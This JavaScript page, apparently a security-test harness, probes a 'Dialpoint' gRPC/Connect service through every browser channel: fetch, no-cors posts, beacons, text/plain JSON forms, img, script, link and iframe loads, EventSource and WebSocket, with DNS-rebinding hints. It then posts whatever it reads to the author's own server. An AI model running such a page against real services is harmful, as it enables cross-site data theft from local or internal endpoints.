// A page that tries all that a browser has against a Dialpoint service, and tells its own server what it could read.

const resolve = '/dialpoint.v1.EndpointService/ResolveEndpoints';
const watch = '/dialpoint.v1.EndpointService/WatchEndpoints';
const list = '/dialpoint.v1.ListenerService/ListListeners';
const query = 'encoding=json&message=%7B%7D&connect=v1';
const simple = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
const ours = ['', 'application/json', 'application/proto', 'application/x-protobuf', 'application/connect+json', 'application/grpc-web+proto'];
const patience = 5000;

// One message of a stream: a byte of flags, four of length.
const envelope = new Uint8Array([0, 0, 0, 0, 2, 123, 125]);

// attempt gives the act a URL that names it, so that the other side can tell who called. What the act returns was read.
async function attempt(name, url, act) {
  const named = `${url}${url.includes('?') ? '&' : '?'}attempt=${encodeURIComponent(name)}`;
  const late = new Promise((_, fail) => setTimeout(() => fail(new Error('nothing came')), patience));
  try {
    return {name, read: String((await Promise.race([act(named), late])) ?? ''), error: ''};
  } catch (error) {
    return {name, read: '', error: String(error)};
  }
}

// fetched is the status and the first part of the body: that of a stream does not end.
const fetched = (options) => async (url) => {
  const answer = await fetch(url, options);
  if (answer.type === 'opaque') return '';
  const {value} = (await answer.body?.getReader().read()) ?? {};
  return `${answer.status} ${new TextDecoder().decode(value)}`;
};

// element is true to life: it counts as read when it has loaded, which an error of HTTP does not.
const element = (tag, attribute) => (url) => new Promise((done, fail) => {
  const made = document.createElement(tag);
  if (tag === 'link') made.rel = 'stylesheet';
  made.onload = () => done(`${tag} has loaded`);
  made.onerror = () => fail(new Error(`${tag} has not loaded`));
  made[attribute] = url;
  document.documentElement.append(made);
});

function newFrame(done) {
  const frame = document.createElement('iframe');
  frame.name = `frame-${Math.random()}`;
  frame.onload = () => {
    const text = frame.contentDocument?.body?.innerText;
    if (text !== '') done(text); // The empty page comes first.
  };
  document.documentElement.append(frame);
  return frame;
}

const framed = (url) => new Promise((done) => { newFrame(done).src = url; });

const submitted = (encoding) => (url) => new Promise((done) => {
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: url, enctype: encoding, target: newFrame(done).name});
  const field = document.createElement('input');
  Object.assign(field, {name: '{"listener":"', value: '"}'}); // As text/plain that is JSON, but for the "=".
  form.append(field);
  document.documentElement.append(form);
  form.submit();
});

const beacon = (type) => (url) => {
  if (!navigator.sendBeacon(url, new Blob(['{}'], {type}))) throw new Error('the beacon was not sent');
  return new Promise((done) => setTimeout(done, 1000)); // Nobody is told when it has been answered.
};

const opened = (make) => (url) => new Promise((done, fail) => {
  const stream = make(url);
  stream.onopen = () => done('it is open');
  stream.onmessage = (event) => done(event.data);
  stream.onerror = () => fail(new Error('it is not open'));
});

function attempts(base, token) {
  const all = [];
  const add = (name, path, act) => all.push(attempt(`${base} ${name}`, base + path, act));
  for (const [who, authorization] of [['nobody', {}], ['child', {Authorization: `Bearer ${token}`}]]) {
    for (const path of [resolve, watch, list]) {
      const [type, body] = path === watch ? ['application/connect+json', envelope] : ['application/json', '{}'];
      add(`fetch ${path} as ${who}`, path, fetched({method: 'POST', headers: {'Content-Type': type, ...authorization}, body}));
    }
    add(`fetch GET as ${who}`, `${list}?${query}`, fetched({headers: authorization}));
  }
  for (const type of [...simple, ...ours]) {
    add(`no-cors ${type}`, resolve, fetched({method: 'POST', mode: 'no-cors', body: new Blob(['{}'], {type})}));
    add(`no-cors header ${type}`, list, fetched({method: 'POST', mode: 'no-cors', headers: {'Content-Type': type}, body: '{}'}));
    add(`beacon ${type}`, resolve, beacon(type));
  }
  for (const type of simple) add(`form ${type}`, resolve, submitted(type));
  for (const path of [`${list}?${query}`, `${resolve}?${query}`]) {
    add(`no-cors GET ${path}`, path, fetched({mode: 'no-cors'}));
    add(`image ${path}`, path, element('img', 'src'));
    add(`script ${path}`, path, element('script', 'src'));
    add(`style ${path}`, path, element('link', 'href'));
    add(`frame ${path}`, path, framed);
  }
  add('events', watch, opened((url) => new EventSource(url)));
  add('socket', watch, opened((url) => new WebSocket(url.replace('http', 'ws'))));
  return all;
}

// own is the server of whoever wrote this page, whatever name the page itself has come under.
async function run(own) {
  const {bases, token} = await (await fetch(`${own}/go`)).json();
  // An empty base is wherever this page's own name leads by now.
  const results = await Promise.all(bases.flatMap((base) => attempts(base || location.origin, token)));
  await fetch(`${own}/report`, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
}

run(new URL(document.currentScript.src).searchParams.get('own'));
